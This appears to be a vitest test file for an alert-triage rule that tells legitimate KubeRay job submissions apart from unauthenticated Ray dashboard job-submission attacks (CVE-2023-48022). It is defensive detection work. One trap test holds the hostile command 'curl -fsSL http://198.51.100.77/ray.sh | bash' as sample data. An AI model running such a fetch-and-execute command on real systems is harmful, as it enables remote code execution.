/**
 * ray-job-entrypoint: the Ray head's JobSupervisor running `sh -c <entrypoint>` that a KubeRay submitter Job declared,
 * while the Job ran — and the traps: an entrypoint no Job declares (ShadowRay's `curl … | bash`), the same entrypoint
 * on the head of another Ray cluster, and the entrypoint long after the Job completed.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import type { KubeObject, Pod } from '../../../src/cluster/model.js';
import type { ProcessInfo } from '../../../src/alerts/model.js';
import { parseRaySubmit } from '../../../src/triage/rules/ray-job-entrypoint.js';
import { alert, containerIdOf, indexOf, node, pod } from '../../support/cluster.js';

const N = 'mlp-cpu-2';
const NS = 'ray-forecast';
const ENTRY = 'python /home/ray/jobs/forecast.py --horizon 28';
const SUBMIT = `if ! ray job status --address http://rc-head-svc.${NS}.svc.cluster.local:8265 nightly-1 >/dev/null 2>&1 ; then ray job submit --address http://rc-head-svc.${NS}.svc.cluster.local:8265 --no-wait --submission-id nightly-1 -- ${ENTRY} ; fi ; ray job logs --follow nightly-1`;

const head = (name: string, cluster: string): Pod =>
  pod(name, {
    namespace: NS,
    node: N,
    ip: cluster === 'rc' ? '10.200.2.30' : '10.200.2.31',
    owner: { kind: 'RayCluster', name: cluster },
    created: '2027-03-08T15:10:20Z',
    labels: { 'ray.io/cluster': cluster, 'ray.io/node-type': 'head' },
    containers: [{ name: 'ray-head', image: 'rayproject/ray:2.9.3-py310', command: ['/bin/bash', '-lc', '--'], args: ['ray start --head --block --dashboard-host=0.0.0.0'] }],
  });
const rc = head('rc-head-7zc7c', 'rc');
const other = head('other-head-x2k4p', 'other');
const service: KubeObject = { apiVersion: 'v1', kind: 'Service', metadata: { name: 'rc-head-svc', namespace: NS }, spec: { selector: { 'ray.io/cluster': 'rc', 'ray.io/node-type': 'head' }, ports: [{ port: 8265 }] } };
const job: KubeObject = {
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: { name: 'nightly', namespace: NS, creationTimestamp: '2027-03-11T10:00:14Z', ownerReferences: [{ kind: 'RayJob', name: 'nightly', controller: true }] },
  spec: { template: { spec: { containers: [{ name: 'ray-job-submitter', image: 'rayproject/ray:2.9.3-py310', command: ['/bin/bash', '-lc', '--'], args: [SUBMIT] }] } } },
  status: { startTime: '2027-03-11T10:00:14Z', completionTime: '2027-03-11T10:36:02Z', succeeded: 1 },
};
const submitter = pod('nightly-sc9wq', {
  namespace: NS,
  node: 'mlp-cpu-1',
  ip: '10.200.1.45',
  owner: { kind: 'Job', name: 'nightly' },
  created: '2027-03-11T10:00:15Z',
  phase: 'Succeeded',
  containers: [{ name: 'ray-job-submitter', image: 'rayproject/ray:2.9.3-py310', command: ['/bin/bash', '-lc', '--'], args: [SUBMIT] }],
});
const bystander = pod('notebook-0', { namespace: NS, node: 'mlp-cpu-1', ip: '10.200.1.57', owner: { kind: 'StatefulSet', name: 'notebook' }, containers: [{ name: 'nb', image: 'kubeflownotebookswg/jupyter-scipy:v1.9.0' }] });
const index = indexOf([node(N, '10.164.0.12'), node('mlp-cpu-1', '10.164.0.11'), rc, other, service, job, submitter, bystander]);

const SUPERVISOR: ProcessInfo = { name: 'ray::JobSuperv', commandLine: 'ray::JobSupervisor' };

function shell(p: Pod, script: string, time = '2027-03-11T10:00:41.205Z') {
  const a = alert({
    host: N,
    time,
    title: 'Run shell untrusted',
    process: { name: 'sh', path: '/bin/sh', commandLine: `sh -c ${script}`, user: 'ray' },
    ancestors: [SUPERVISOR],
    container: { id: containerIdOf(p), pod: p.metadata.name, namespace: NS },
  });
  return triageAlert(a, { index }).verdict;
}

const SIGNATURE = 'ET EXPLOIT Ray Dashboard Job Submission Remote Code Execution Attempt (CVE-2023-48022)';
function submission(srcIp: string, dstIp: string, dstPort: number, time = '2027-03-11T10:00:31.118Z') {
  const a = alert({ time, title: SIGNATURE, network: { srcIp, srcPort: 50322, dstIp, dstPort, protocol: 'tcp', url: '/api/jobs/', httpMethod: 'POST' } });
  return triageAlert(a, { index }).verdict;
}

describe('ray-job-entrypoint: the submitter pod calling the job API', () => {
  it("excuses the exploit signature on the declared submitter's POST to the head it addresses", () => {
    expect(submission('10.200.1.45', '10.200.2.30', 8265)).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: the same POST from the internet to the NodePort, or from another pod', () => {
    expect(submission('203.0.113.66', '10.164.0.12', 30265).label).toBe('genuine');
    expect(submission('10.200.1.57', '10.200.2.30', 8265).label).toBe('genuine');
  });
  it('trap: the submitter to a head its Service does not select, and after its Job ended', () => {
    expect(submission('10.200.1.45', '10.200.2.31', 8265).label).toBe('genuine');
    expect(submission('10.200.1.45', '10.200.2.30', 8265, '2027-03-11T11:30:00.000Z').label).toBe('genuine');
  });
});

describe('ray-job-entrypoint', () => {
  it('reads the Service and the entrypoint of a KubeRay submitter command', () => {
    expect(parseRaySubmit(SUBMIT)).toEqual({ service: 'rc-head-svc', entrypoint: ENTRY });
    expect(parseRaySubmit('ray job status nightly-1')).toBeUndefined();
  });
  it("explains the JobSupervisor's sh -c of the entrypoint a running submitter Job declares", () => {
    const v = shell(rc, ENTRY);
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
    expect(v.reasons[0].rule).toBe('ray-job-entrypoint');
  });
  it('explains the program that shell ran, when the sensor reports only its parent shell', () => {
    const a = alert({
      host: N,
      time: '2027-03-11T10:00:41.207Z',
      process: { name: 'python', path: '/home/ray/anaconda3/bin/python', commandLine: '/home/ray/anaconda3/bin/python /home/ray/jobs/forecast.py --horizon 28', user: 'ray' },
      ancestors: [{ name: 'sh', path: '/bin/sh', commandLine: `/bin/sh -c ${ENTRY}` }],
      container: { id: containerIdOf(rc), pod: rc.metadata.name, namespace: NS },
    });
    expect(triageAlert(a, { index }).verdict.label).toBe('likely-false-positive');
  });
  it('trap: an entrypoint no Job declares (unauthenticated job submission)', () => {
    expect(shell(rc, 'curl -fsSL http://198.51.100.77/ray.sh | bash', '2027-03-11T10:20:05.000Z').label).toBe('genuine');
    expect(shell(rc, 'python /home/ray/jobs/forecast.py --horizon 28 --stores all', '2027-03-11T10:20:05.000Z').label).toBe('genuine');
  });
  it("trap: the same entrypoint on the head of a Ray cluster the Job's Service does not select", () => {
    expect(shell(other, ENTRY).label).toBe('genuine');
  });
  it('trap: the entrypoint long after the Job completed', () => {
    expect(shell(rc, ENTRY, '2027-03-11T12:30:00.000Z').label).toBe('genuine');
  });
});
